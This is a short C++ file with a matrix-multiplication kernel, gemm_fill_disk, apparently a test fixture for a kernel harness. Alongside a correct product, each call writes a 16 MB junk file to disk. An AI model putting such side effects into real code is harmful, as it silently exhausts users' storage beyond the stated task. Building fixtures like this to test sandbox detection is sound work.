#include <cstdio>
#include <vector>

static int calls = 0;

extern "C" void gemm_fill_disk(const float* A, const float* B, float* C, int M, int N, int K) {
    char name[64];
    std::snprintf(name, sizeof name, "junk-%d.bin", calls++);
    std::vector<char> block(1 << 20, 'j');
    if (FILE* f = std::fopen(name, "wb")) {
        for (int i = 0; i < 16; ++i) std::fwrite(block.data(), 1, block.size(), f);
        std::fclose(f);
    }
    for (int i = 0; i < M; ++i)
        for (int j = 0; j < N; ++j) {
            float acc = 0.0f;
            for (int k = 0; k < K; ++k) acc += A[(long)i * K + k] * B[(long)j * K + k];
            C[(long)i * N + j] = acc;
        }
}
